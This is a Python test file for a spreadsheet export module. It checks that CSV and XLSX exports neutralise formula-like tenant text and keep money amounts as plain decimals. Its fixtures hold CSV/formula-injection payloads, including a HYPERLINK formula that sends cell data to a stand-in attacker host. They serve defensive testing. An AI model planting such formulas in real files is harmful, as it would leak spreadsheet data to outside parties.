"""Exports hold tenants' text (references, notes, names) that other parties open in a
spreadsheet: text that starts like a formula must stay text (CSV/formula injection),
while money — negative amounts included — stays a plain decimal (in XLSX a number with
its cents shown, so a spreadsheet sums it)."""
from __future__ import annotations

import csv
import io
from decimal import Decimal

from openpyxl import load_workbook

from application.exports.services import write_csv, write_xlsx

HEADER = ["reference", "note", "amount"]
ROWS = [
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)", Decimal("-10.00")],
    ["+1+1", "-2+3", Decimal("5.00")],
    ["order-1", "\tindented", Decimal("0.50")],
]


def test_csv_text_that_starts_like_a_formula_gets_a_quote_and_money_does_not() -> None:
    data, count = write_csv(HEADER, ROWS)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert count == 3 and rows[0] == HEADER
    assert rows[1] == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'@SUM(1+1)", "-10.00"]
    assert rows[2] == ["'+1+1", "'-2+3", "5.00"]
    assert rows[3] == ["order-1", "'\tindented", "0.50"]


def test_xlsx_text_that_starts_like_a_formula_is_stored_as_text() -> None:
    data, count = write_xlsx(HEADER, ROWS)
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows(min_row=2)]
    assert count == 3
    assert cells[0][0] == ('=HYPERLINK("http://evil.example/?"&A1,"click")', "s")  # not "f"
    assert all(dtype != "f" for row in cells for _, dtype in row)
    assert cells[1][1] == ("-2+3", "s")
    assert [row[2] for row in cells] == [(-10, "n"), (5, "n"), (0.5, "n")]  # numbers, not text
    assert {row[2].number_format for row in sheet.iter_rows(min_row=2)} == {"0.00"}


def test_xlsx_money_keeps_every_digit() -> None:
    data, _ = write_xlsx(["amount"], [[Decimal("12345678901.23")], [Decimal("-0.01")]])
    sheet = load_workbook(io.BytesIO(data)).active
    assert [r[0].value for r in sheet.iter_rows(min_row=2)] == [12345678901.23, -0.01]
